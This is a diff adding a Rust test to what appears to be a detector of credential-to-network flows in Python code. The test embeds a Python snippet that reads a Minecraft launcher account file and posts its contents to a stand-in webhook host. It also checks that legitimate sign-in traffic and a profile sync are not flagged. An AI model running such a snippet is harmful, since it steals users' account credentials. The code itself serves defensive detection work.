@@ -396,3 +396,27 @@ fn host_identity_spelled_in_hex_digits_still_reaches_a_ping() {
         "{found:?}"
     );
 }
+
+#[test]
+fn game_launcher_account_stores_are_credentials_sent_only_to_their_own_service() {
+    let sent = |url: &str| {
+        py(&format!(
+            "import os, requests\np = os.path.join(os.path.expanduser('~'), '.minecraft', 'launcher_accounts.json')\nwith open(p) as f:\n    data = f.read()\nrequests.post('{url}', files={{'a': data}})\n"
+        ))
+    };
+    let found = sent("https://hooks.example.invalid/x");
+    assert!(
+        found.iter().any(|f| f.0 == FlowKind::CredentialToNetwork),
+        "{found:?}"
+    );
+    // A launcher refreshing its own sign-in sends the token to the account service: its use.
+    assert!(sent("https://api.minecraftservices.com/authentication/login_with_xbox").is_empty());
+    // A mod manager reading the launcher's profile list reads no credential.
+    let profiles = py("import os, requests\np = os.path.join(os.path.expanduser('~'), '.minecraft', 'launcher_profiles.json')\nwith open(p) as f:\n    data = f.read()\nrequests.post('https://mods.example.invalid/sync', data=data)\n");
+    assert!(
+        !profiles
+            .iter()
+            .any(|f| f.0 == FlowKind::CredentialToNetwork),
+        "{profiles:?}"
+    );
+}
